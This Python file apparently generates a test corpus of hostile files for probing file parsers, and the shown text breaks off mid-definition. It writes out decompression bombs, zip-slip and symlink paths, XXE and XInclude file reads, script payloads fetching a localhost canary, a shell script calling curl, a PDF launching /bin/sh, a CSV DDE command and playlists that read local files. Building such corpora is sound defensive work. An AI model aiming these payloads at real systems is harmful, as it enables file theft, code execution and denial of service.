"""Two hundred and more hostile files, made by this program alone and the same every time.

Nothing here is malware: each file tries to make a reader run something, fetch something, read a neighbour's file, or
use memory, disk or time without end. `CANARY` is what a planted secret holds: a file that gets it into an output, or
touches one of the addresses, has escaped.
"""

# ruff: noqa: E501
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

CANARY = b"CANARY-7f3a-must-never-be-copied"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called by its sender, its bytes, and what it tries."""

    name: str
    data: bytes
    tries: str


@dataclass(frozen=True)
class Aims:
    """Where the files aim: a secret's path, addresses of listeners, and a word that a script would show."""

    secret: str = "/tmp/counterfoil-canary-secret"
    http: str = "http://127.0.0.1:9/canary"
    word: str = "counterfoil-ran"


@lru_cache(maxsize=4)
def corpus(aims: Aims = Aims()) -> list[Hostile]:
    """Return every file, in one order, each with different bytes."""
    made = [h for family in FAMILIES for h in family(aims)]
    seen: set[bytes] = set()
    unique = []
    for hostile in made:
        data = hostile.data
        while data in seen:
            data += b"\n"
        seen.add(data)
        unique.append(Hostile(hostile.name, data, hostile.tries))
    return unique


def sample(count: int, aims: Aims = Aims()) -> list[Hostile]:
    """Return `count` of them, evenly over all families."""
    whole = corpus(aims)
    return [whole[i * len(whole) // count] for i in range(count)]


# --- packed files


def _zip(*members: tuple[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, how)
    return out.getvalue()


def _zeros(size: int) -> bytes:
    """Return a raw deflate stream of so many zeros (whole MiB): one flushed block, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size >> 20) + b"\x03\x00"


def _flood(size: int) -> bytes:
    """Return so many zeros (whole MiB) in zlib's form."""
    return b"\x78\xda" + _zeros(size) + struct.pack(">I", (size % 65521) << 16 | 1)


def _overlap(count: int, packed: bytes, size: int) -> bytes:
    """Return a zip whose many entries all name the same compressed bytes (no quine, no nesting, one kernel)."""
    crc = 0
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(packed), size, 1, 0) + b"a"
    out, central = local + packed, b""
    for n in range(count):
        name = f"{n:05d}".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                len(packed),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(out), 0)
    return out + central + end


def packed(aims: Aims) -> Iterator[Hostile]:
    """Zip, gzip and tar bombs, nested and overlapping ones, lying sizes, and documents that are zips."""
    big = _zeros(256 << 20)
    for layers in range(1, 7):
        data, name = big, "0"
        for layer in range(layers):
            data = (
                _zip(*((f"{name}-{n}.zip", data) for n in range(4)))
                if layer
                else _zip((name, bytes(16 << 20)))
            )
        yield Hostile(f"nested-{layers}.zip", data, "unpacks to gigabytes, layer in layer")
    for count in (10, 1000, 20000):
        yield Hostile(
            f"overlap-{count}.zip", _overlap(count, big, 256 << 20), "names the same bytes many times"
        )
    yield Hostile(
        "millions.zip", _zip(*((f"{n}", b"") for n in range(20000)), how=0), "has very many members"
    )
    for mib in (64, 256, 512):
        body = _zeros(mib << 20)
        head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        yield Hostile(f"flood-{mib}.gz", head + body + bytes(8), "unpacks to a flood of zeros")
        yield Hostile(
            f"flood-{mib}.svgz", head + body + bytes(4) + b"svgz", "is a picture that unpacks to a flood"
        )
    inner = gzip.compress(gzip.compress(gzip.compress(bytes(8 << 20), mtime=0), mtime=0), mtime=0)
    yield Hostile("thrice.gz", inner, "is packed three times")
    for what, info in {
        "sparse": {"size": 1 << 40},
        "link": {"type": tarfile.SYMTYPE, "linkname": aims.secret},
        "hard": {"type": tarfile.LNKTYPE, "linkname": aims.secret},
        "up": {"name": "../../../../tmp/counterfoil-planted"},
        "absolute": {"name": "/tmp/counterfoil-planted"},
        "device": {"type": tarfile.CHRTYPE},
    }.items():
        member = tarfile.TarInfo(str(info.get("name", "member")))
        for key, value in info.items():
            setattr(member, key, value)
        yield Hostile(
            f"{what}.tar", member.tobuf(tarfile.GNU_FORMAT) + bytes(1024), "points outside or lies about size"
        )
    for path in (
        "../../../../tmp/counterfoil-planted",
        "/tmp/counterfoil-planted",
        "C:\\Windows\\x",
        "a\x00b",
        "CON",
        "a/" * 400,
    ):
        yield Hostile(
            f"slip-{len(path)}.zip", _zip((path or "x", b"planted")), "holds a member with a path outside"
        )
    lol = _lol(aims)
    for ext, part in (
        ("docx", "word/document.xml"),
        ("xlsx", "xl/workbook.xml"),
        ("pptx", "ppt/presentation.xml"),
        ("odt", "content.xml"),
    ):
        yield Hostile(
            f"entities.{ext}",
            _zip((part, lol), ("[Content_Types].xml", b"<Types/>")),
            "is a document of entities without end",
        )
        rel = f'<Relationships><Relationship Target="{aims.http}" TargetMode="External" Type="x/attachedTemplate"/></Relationships>'
        yield Hostile(
            f"template.{ext}",
            _zip((part, b"<x/>"), ("word/_rels/settings.xml.rels", rel.encode())),
            "fetches a template from an address",
        )
        yield Hostile(f"huge.{ext}", _zip((part, bytes(100 << 20))), "is a document that unpacks to a flood")
    yield Hostile(
        "encrypted.zip",
        b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 1, 8, 0, 33, 0, 12, 1 << 31, 1, 0) + b"x" * 13,
        "claims to be encrypted and huge",
    )


# --- text and mark-up


def _lol(aims: Aims) -> bytes:
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{names}]><lolz>&l11;</lolz>'.encode()


def _script(aims: Aims) -> str:
    return f"alert('{aims.word}');new Image().src='{aims.http}';fetch('{aims.http}')"


def markup(aims: Aims) -> Iterator[Hostile]:
    """Web pages, drawings, saved pages and messages with scripts; XML that reads files and addresses."""
    js = _script(aims)
    pages = {
        "plain.html": f"<!doctype html><title>x</title><script>{js}</script>",
        "onload.html": f'<body onload="{js}">',
        "meta.html": f'<meta http-equiv="refresh" content="0;url=javascript:{js}"><html>',
        "frame.html": f'<html><iframe src="file://{aims.secret}"></iframe><iframe src="{aims.http}"></iframe>',
        "late.txt": "a harmless note\n" * 60 + f"<script>{js}</script>",
        "utf7.txt": "+ADw-script+AD4-" + js + "+ADw-/script+AD4-",
        "bom.htm": "\ufeff<html><script>" + js + "</script>",
        "base.html": f'<html><base href="{aims.http}/"><link rel=stylesheet href=x><script src=y></script>',
        "worker.html": f"<html><script>navigator.serviceWorker.register('{aims.http}')</script>",
        "css.css": f"@import url('{aims.http}'); body {{ background: url('{aims.http}') }}",
        "script.js": js,
        "module.mjs": f"import '{aims.http}'; {js}",
        "data.json": f'{{"__proto__": {{"x": "{aims.word}"}}, "deep": {"[" * 5000 + "]" * 5000}}}',
        "sheet.csv": f"name\n=HYPERLINK(\"{aims.http}\")\n=cmd|' /C calc'!A0\n",
        "link.url": f"[InternetShortcut]\nURL={aims.http}\n",
        "desk.desktop": f"[Desktop Entry]\nType=Application\nExec=sh -c 'touch /tmp/{aims.word}'\n",
        "run.sh": f"#!/bin/sh\ntouch /tmp/{aims.word}\ncurl {aims.http}\n",
        "run.py": f"#!/usr/bin/env python3\nopen('/tmp/{aims.word}', 'w')\n",
        "hta.hta": f"<html><HTA:APPLICATION/><script>{js}</script>",
        "xsl.xml": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{aims.http}"?><x/>',
        "xslt.xsl": '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"<script>{js}</script></xsl:template></xsl:stylesheet>",
        "xhtml.xhtml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></html>',
        "xxe-file.xml": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{aims.secret}">]><x>&e;</x>',
        "xxe-http.xml": f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{aims.http}"><x/>',
        "xxe-parameter.xml": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "{aims.http}">%p;]><x/>',
        "xinclude.xml": f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{aims.secret}" parse="text"/></x>',
        "quadratic.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
        + "a" * 50000
        + '">]><x>'
        + "&a;" * 5000
        + "</x>",
        "deep.xml": "<x>" * 100000,
        "message.eml": f"From: a@example.com\nMIME-Version: 1.0\nContent-Type: text/html\n\n<script>{js}</script>",
        "saved.mhtml": f"From: <saved>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: {aims.http}\n\n<script>{js}</script>\n--b--\n",
    }
    for name, text in pages.items():
        yield Hostile(name, text.encode(), "runs a script or fetches something where it is shown")
    yield Hostile("entities.xml", _lol(aims), "expands to gigabytes of text")
    yield Hostile(
        "utf16.html",
        ("<html><script>" + js + "</script>").encode("utf-16"),
        "hides a script in another encoding",
    )
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
    for name, inner in {
        "script": f"<script>{js}</script>",
        "onload": f'<g onload="{js}"/><image href="x" onerror="{js}"/>',
        "image": f'<image xlink:href="{aims.http}" width="9" height="9"/><image href="file://{aims.secret}"/>',
        "foreign": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:{js}"/></body></foreignObject>',
        "use": f'<use xlink:href="{aims.http}#x"/><style>@import "{aims.http}";</style>',
        "animate": f'<a><set attributeName="href" to="javascript:{js}"/><text y="9">x</text></a>',
        "huge": '<rect width="999999999" height="999999999"/>' * 2000,
        "entity": "&l;" * 10,
    }.items():
        yield Hostile(f"{name}.svg", svg.format(inner).encode(), "is a drawing that runs or fetches")


# --- polyglots


def polyglots(aims: Aims) -> Iterator[Hostile]:
    """Files that are two things at once, so that who looks twice may see something else."""
    js, html = _script(aims), f"<html><script>{_script(aims)}</script></html>"
    yield Hostile("gif.js", b"GIF89a/*" + bytes(6) + b"*/=0;" + js.encode(), "is a picture and a script")
    yield Hostile("gif.html", b"GIF89a" + html.encode(), "is a picture and a web page")
    yield Hostile("pdf.html", b"%PDF-1.7\n" + html.encode() + b"\n%%EOF", "is a document and a web page")
    yield Hostile(
        "html.pdf", html.encode() + b"\n%PDF-1.7\n" + _pdf(aims, "")[9:], "is a web page and a document"
    )
    yield Hostile("png.html", _png(2, 2) + html.encode(), "is a picture and a web page")
    yield Hostile(
        "jpeg.html",
        b"\xff\xd8\xff\xfe" + struct.pack(">H", len(html) + 2) + html.encode() + b"\xff\xd9",
        "hides a page in a comment",
    )
    yield Hostile("bmp.js", b"BM" + b"/*" + bytes(4) + b"*/=1;" + js.encode(), "is a picture and a script")
    yield Hostile("zip.png", _png(2, 2) + _zip(("x.html", html.encode())), "is a picture and a packed folder")
    yield Hostile(
        "zip.pdf", _pdf(aims, "") + _zip(("x.html", html.encode())), "is a document and a packed folder"
    )
    yield Hostile(
        "jar.gif",
        b"GIF89a" + bytes(20) + _zip(("META-INF/MANIFEST.MF", b"Main-Class: x\n")),
        "is a picture and a program",
    )
    yield Hostile(
        "exe.jpg",
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200),
        "is a program under a picture's name",
    )
    yield Hostile("elf.mp4", b"\x7fELF\x02\x01\x01" + bytes(200), "is a program under a film's name")
    yield Hostile(
        "mp4.html",
        struct.pack(">I", 8 + len(html) + 8) + b"ftypisom" + b"\0\0\2\0" + html.encode() + b"\0" * 4,
        "is a film and a web page",
    )
    yield Hostile("wasm.bin", b"\0asm\x01\0\0\0" + bytes(50), "is a program for browsers")
    yield Hostile("class.jpg", b"\xca\xfe\xba\xbe" + bytes(60), "is a program under a picture's name")
    yield Hostile("swf.swf", b"FWS\x08" + bytes(60), "is a film that is a program")
    yield Hostile(
        "webp.html", b"RIFF" + struct.pack("<I", 100) + b"WEBP" + html.encode(), "is a picture and a web page"
    )
    yield Hostile(
        "ps.eps",
        f"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch /tmp/{aims.word}) (w) file\n({aims.secret}) (r) file\n".encode(),
        "is a drawing that is a program",
    )
    yield Hostile(
        "mvg.png",
        f"push graphic-context\nimage over 0,0 0,0 'url({aims.http})'\npop graphic-context".encode(),
        "is a drawing that fetches",
    )


# --- documents


def _pdf(aims: Aims, extra: str, stream: bytes = b"", filters: str = "", catalog: str = "") -> bytes:
    """Return a PDF of one page; `extra` goes into the page's dictionary and `stream` is its content."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R {extra}>>".encode(),
        f"<</Length {len(stream)} {filters}>>stream\n".encode() + stream + b"\nendstream",
    ]
    out, places = b"%PDF-1.7\n", []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{p:010d} 00000 n \n".encode() for p in places)
    return out + f"trailer<</Size {len(places) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF".encode()


def documents(aims: Aims) -> Iterator[Hostile]:
    """PDFs that run, launch, fetch, expand, recurse or lie."""
    js = f"app.alert('{aims.word}'); app.launchURL('{aims.http}')"
    for name, catalog in {
        "javascript": f"/OpenAction<</S/JavaScript/JS({js})>>",
        "launch": f"/OpenAction<</S/Launch/F(/bin/sh)/P(-c touch /tmp/{aims.word})>>",
        "uri": f"/OpenAction<</S/URI/URI({aims.http})>>",
        "remote": f"/OpenAction<</S/GoToR/F(file://{aims.secret})/D[0/Fit]>>",
        "submit": f"/OpenAction<</S/SubmitForm/F({aims.http})>>",
        "import": f"/OpenAction<</S/ImportData/F({aims.secret})>>",
        "names": f"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS({js})>>]>>>>",
        "xfa": f"/AcroForm<</XFA({_script(aims)})/Fields[]>>",
        "embedded": "/Names<</EmbeddedFiles<</Names[(x.exe)<</F(x.exe)/EF<</F 4 0 R>>>>]>>>>",
    }.items():
        yield Hostile(
            f"{name}.pdf", _pdf(aims, "", catalog=catalog), "is a document that acts when it is opened"
        )
    zeros = _flood(64 << 20)
    yield Hostile("flate.pdf", _pdf(aims, "", zeros, "/Filter/FlateDecode"), "unpacks to a flood")
    twice = zlib.compress(zlib.compress(_flood(64 << 20), 9), 9)
    yield Hostile(
        "flate3.pdf",
        _pdf(aims, "", twice, "/Filter[/FlateDecode/FlateDecode/FlateDecode]"),
        "unpacks three times",
    )
    yield Hostile(
        "hex.pdf",
        _pdf(aims, "", b"41" * 100000, "/Filter[" + "/ASCIIHexDecode" * 50 + "]"),
        "names one filter fifty times",
    )
    yield Hostile(
        "kids.pdf", _pdf(aims, "").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "has a page that holds itself"
    )
    yield Hostile(
        "count.pdf",
        _pdf(aims, "").replace(b"/Count 1", b"/Count 2147483647"),
        "says that it has two thousand million pages",
    )
    yield Hostile(
        "media.pdf",
        _pdf(aims, "").replace(b"[0 0 200 200]", b"[0 0 9999999 9999999]"),
        "has a page as big as a county",
    )
    yield Hostile(
        "deep.pdf",
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 200000 + b"]" * 200000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "nests without end",
    )
    yield Hostile(
        "xref.pdf", _pdf(aims, "").replace(b"startxref\n", b"startxref\n9999999999"), "points nowhere"
    )
    yield Hostile(
        "prev.pdf",
        b"%PDF-1.7\nxref\n0 0\ntrailer<</Prev 9>>\nstartxref\n9\n%%EOF",
        "refers to itself for ever",
    )
    pattern = b"q " * 50000 + b"/P cs /X Do " * 10000
    form = "/Resources<</XObject<</X 4 0 R>>>>"
    yield Hostile(
        "form.pdf",
        _pdf(aims, form, pattern, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + form),
        "draws itself for ever",
    )
    image = "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    yield Hostile(
        "image.pdf", _pdf(aims, form, b"x", image), "holds a picture of ten thousand million points"
    )
    yield Hostile(
        "font.pdf",
        _pdf(
            aims,
            "/Resources<</Font<</F<</Type/Font/Subtype/Type3/FontMatrix[1 0 0 1 0 0]/CharProcs<<>>/FontBBox[0 0 0 0]>>>>>>",
            b"BT /F 9e9 Tf (x) Tj ET",
        ),
        "has a letter of any size",
    )
    yield Hostile("cut.pdf", _pdf(aims, "")[:300], "is cut off")


# --- pictures


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *more: bytes, data: bytes | None = None) -> bytes:
    rows = zlib.compress(bytes((width * 3 + 1) * height), 9) if data is None else data
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _tiff(width: int, height: int, *, count: int = 1, value: int = 0) -> bytes:
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, count, value or 8),
        (277, 3, 1, 3),
        (278, 4, 1, height),
        (279, 4, 1, 4),
    ]
    ifd = (
        struct.pack("<H", len(entries))
        + b"".join(struct.pack("<HHII", *e) for e in entries)
        + struct.pack("<I", 8)
    )
    return b"II*\x00" + struct.pack("<I", 8) + ifd


def _gif(width: int, height: int, frames: int) -> bytes:
    out = (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0x80, 0, 0)
        + bytes(6)
        + b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    )
    frame = (
        b"!\xf9\x04\x00\x00\x00\x00\x00,"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x02L\x01\x00"
    )
    return out + frame * frames + b";"


def _jpeg(width: int, height: int, *segments: bytes) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8"
        + b"".join(segments)
        + b"\xff\xdb\x00\x43\x00"
        + bytes([1] * 64)
        + frame
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + bytes(50)
        + b"\xff\xd9"
    )


def _segment(marker: int, data: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", min(len(data) + 2, 65535)) + data[:65533]


def pictures(aims: Aims) -> Iterator[Hostile]:
    """Pixel floods, broken and recursive metadata, profiles and comments that lie."""
    for side in (20000, 60000, 100000):
        yield Hostile(
            f"flood-{side}.png",
            _png(side, side, data=_flood(1 << 20)),
            "has more points than memory",
        )
        yield Hostile(f"flood-{side}.tif", _tiff(side, side), "has more points than memory")
        yield Hostile(
            f"flood-{min(side, 65500)}-{side}.jpg",
            _jpeg(min(side, 65500), min(side, 65500)) + bytes([side % 251]),
            "has more points than memory",
        )
        yield Hostile(
            f"flood-{side}.gif",
            _gif(min(side, 65535), min(side, 65535), side // 20000),
            "has more points than memory",
        )
        webp = b"VP8X" + struct.pack("<I", 10) + bytes(4) + struct.pack("<I", min(side, 1 << 24) - 1)[:3] * 2
        yield Hostile(
            f"flood-{side}.webp",
            b"RIFF" + struct.pack("<I", len(webp) + 4) + b"WEBP" + webp,
            "has more points than memory",
        )
        bmp = (
            b"BM"
            + struct.pack("<IHHI", 54, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, side, side, 1, 24, 0, 0, 0, 0, 0, 0)
        )
        yield Hostile(f"flood-{side}.bmp", bmp, "has more points than memory")
    yield Hostile("frames.gif", _gif(2000, 2000, 20000), "has very many frames")
    flood = _flood(200 << 20)
    for kind in (b"iCCP", b"zTXt"):
        yield Hostile(
            f"{kind.decode()}.png",
            _png(4, 4, _chunk(kind, b"x\0\0" + flood)),
            "has a profile that unpacks to a flood",
        )
    yield Hostile(
        "itxt.png", _png(4, 4, _chunk(b"iTXt", b"x\0\1\0\0\0" + flood)), "has a text that unpacks to a flood"
    )
    yield Hostile(
        "length.png", _png(4, 4)[:33] + b"\xff\xff\xff\xffIDATx", "has a part of four thousand million bytes"
    )
    yield Hostile("zero.png", _png(0, 0, data=b""), "has no points at all")
    yield Hostile(
        "apng.png",
        _png(4, 4, _chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "says that it has two thousand million frames",
    )
    yield Hostile("loop.tif", _tiff(4, 4), "has a directory that leads to itself")
    yield Hostile("strips.tif", _tiff(4, 4, count=2**31, value=2**31), "has a list beyond its end")
    yield Hostile(
        "exif-loop.jpg",
        _jpeg(8, 8, _segment(0xE1, b"Exif\0\0" + _tiff(1, 1))),
        "has metadata that leads to itself",
    )
    yield Hostile(
        "exif-long.jpg",
        _jpeg(
            8,
            8,
            _segment(
                0xE1,
                b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x0f\x01\x02\x00\xff\xff\xff\x7f\x10\0\0\0" * 4000,
            ),
        ),
        "has metadata of any length",
    )
    yield Hostile(
        "exif-script.jpg",
        _jpeg(8, 8, _segment(0xFE, f"<script>{_script(aims)}</script>".encode())),
        "has a script in a comment",
    )
    yield Hostile(
        "icc.jpg",
        _jpeg(8, 8, _segment(0xE2, b"ICC_PROFILE\0\x01\x01" + b"\xff" * 60000)),
        "has a profile of nonsense",
    )
    yield Hostile(
        "xmp.jpg",
        _jpeg(8, 8, _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + _lol(aims)[:60000])),
        "has metadata that expands",
    )
    yield Hostile(
        "c2pa.jpg",
        _jpeg(8, 8, _segment(0xEB, b"JP\0\0\0\0\0\x01" + b"\x7f\xff\xff\xffjumb" + bytes(5000))),
        "has a provenance box that lies",
    )
    yield Hostile(
        "heic.heic",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x0cmeta\0\0\0\0" * 3000,
        "has boxes without end",
    )
    yield Hostile(
        "avif.avif",
        b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\xff\xff\xff\xffmeta",
        "has a box of four thousand million bytes",
    )


# --- recordings


def _box(kind: bytes, data: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack(">I", 8 + len(data) if size is None else size) + kind + data


def _nest(kind: bytes, depth: int) -> bytes:
    data = b""
    for _ in range(depth):
        data = _box(kind, data)
    return data


def recordings(aims: Aims) -> Iterator[Hostile]:
    """Playlists inside recordings, and containers whose headers lie, nest and point back."""
    playlists = {
        "hls-file": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile://{aims.secret}\n#EXT-X-ENDLIST\n",
        "hls-concat": f"#EXTM3U\n#EXTINF:1,\nconcat:{aims.http}|file://{aims.secret}\n#EXT-X-ENDLIST\n",
        "hls-http": f"#EXTM3U\n#EXTINF:1,\n{aims.http}\n#EXT-X-ENDLIST\n",
        "hls-key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{aims.http}"\n#EXTINF:1,\nfile://{aims.secret}\n#EXT-X-ENDLIST\n',
        "hls-sub": f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:{aims.secret}\n#EXT-X-ENDLIST\n",
        "hls-data": "#EXTM3U\n#EXTINF:1,\ndata:text/plain;base64,QUFBQQ==\n#EXT-X-ENDLIST\n",
        "hls-master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{aims.http}\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{aims.secret}'\nfile '{aims.http}'\n",
        "ffmeta": f";FFMETADATA1\ntitle={aims.secret}\n",
        "dash": f'<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{aims.http}</BaseURL></Representation></AdaptationSet></Period></MPD>',
        "smil": f'<smil><body><video src="{aims.http}"/></body></smil>',
        "asx": f'<asx version="3.0"><entry><ref href="{aims.http}"/></entry></asx>',
        "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n",
        "pls": f"[playlist]\nFile1={aims.http}\nNumberOfEntries=1\n",
        "ass": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../{aims.word}\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{{\\fn{aims.secret}}}x\n",
        "vobsub": f"# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n; {aims.secret}\n",
        "image2": f"{aims.secret}%d.png",
        "lavfi": f"movie={aims.secret}",
    }
    for name, text in playlists.items():
        for ext in ("avi", "m3u8", "mp4") if name.startswith(("hls", "ffc")) else ("avi",):
            yield Hostile(
                f"{name}.{ext}",
                text.encode() + ext.encode() * (ext != "m3u8"),
                "is a playlist under a recording's name",
            )
    gab2 = b"GAB2\0\x02\0" + struct.pack("<I", 4) + b"x\0\0\0" + b"\x04\0"
    for name, text in (
        ("hls", playlists["hls-file"]),
        ("concat", playlists["hls-concat"]),
        ("ffconcat", playlists["ffconcat"]),
    ):
        sub = gab2 + struct.pack("<I", len(text)) + text.encode()
        strh = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52)
        strf = b"strf" + struct.pack("<I", 0)
        strl = b"LIST" + struct.pack("<I", len(strh + strf) + 4) + b"strl" + strh + strf
        avih = (
            b"avih"
            + struct.pack("<I", 56)
            + struct.pack("<IIIIIIIIII", 40000, 0, 0, 0, 1, 0, 1, 0, 16, 16)
            + bytes(16)
        )
        hdrl = b"LIST" + struct.pack("<I", len(avih + strl) + 4) + b"hdrl" + avih + strl
        movi = (
            b"LIST" + struct.pack("<I", len(sub) + 12) + b"movi" + b"00tx" + struct.pack("<I", len(sub)) + sub
        )
        body = b"AVI " + hdrl + movi
        yield Hostile(
            f"gab2-{name}.avi",
            b"RIFF" + struct.pack("<I", len(body)) + body,
            "hides a playlist in a recording's subtitles",
        )
    ftyp = _box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
    dref = _box(
        b"dref", bytes(4) + struct.pack(">I", 1) + _box(b"url ", bytes(4) + aims.http.encode() + b"\0")
    )
    alis = _box(b"dref", bytes(4) + struct.pack(">I", 1) + _box(b"alis", bytes(4) + aims.secret.encode() * 4))
    boxes = {
        "giant": ftyp + _box(b"moov", b"", 0xFFFFFFF0),
        "giant64": ftyp + struct.pack(">I4sQ", 1, b"mdat", 2**63 - 1),
        "zero": ftyp + _box(b"moov", b"", 0) * 50,
        "small": ftyp + _box(b"moov", b"", 4) * 50,
        "deep": ftyp + _nest(b"moov", 3000),
        "traks": ftyp + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf"))) * 5000),
        "stts": ftyp
        + _box(
            b"moov",
            _box(
                b"trak",
                _box(b"mdia", _box(b"minf", _box(b"stbl", _box(b"stts", bytes(4) + b"\x7f\xff\xff\xff")))),
            ),
        ),
        "stsz": ftyp
        + _box(
            b"moov",
            _box(
                b"trak",
                _box(
                    b"mdia", _box(b"minf", _box(b"stbl", _box(b"stsz", bytes(4) + b"\xff\xff\xff\xff" * 2)))
                ),
            ),
        ),
        "ctts": ftyp
        + _box(
            b"moov",
            _box(
                b"trak",
                _box(
                    b"mdia",
                    _box(
                        b"minf", _box(b"stbl", _box(b"ctts", bytes(4) + b"\x3f\xff\xff\xff" + b"\xff" * 64))
                    ),
                ),
            ),
        ),
        "dref-url": ftyp + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", _box(b"dinf", dref))))),
        "dref-alis": ftyp + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", _box(b"dinf", alis))))),
        "cmov": ftyp
        + _box(
            b"moov",
            _box(
                b"cmov",
                _box(b"dcom", b"zlib") + _box(b"cmvd", b"\x7f\xff\xff\xff" + _flood(64 << 20)),
            ),
        ),
        "rmra": ftyp
        + _box(
            b"moov",
            _box(
                b"rmra",
                _box(
                    b"rmda",
                    _box(
                        b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(aims.http)) + aims.http.encode()
                    ),
                ),
            ),
        ),
        "udta": ftyp + _box(b"moov", _box(b"udta", _box(b"meta", b"\xff" * 40000))),
        "uuid": ftyp + _box(b"uuid", b"\xff" * 16 + _lol(aims)),
        "fragments": ftyp
        + _box(b"moof", _box(b"traf", _box(b"trun", b"\0\0\x0f\x01\x7f\xff\xff\xff"))) * 3000,
    }
    for name, data in boxes.items():
        yield Hostile(f"{name}.mp4", data, "has boxes that lie, nest or point away")
    ebml = b"\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x88matroska\x42\x87\x81\x04\x42\x85\x81\x02"
    segments = {
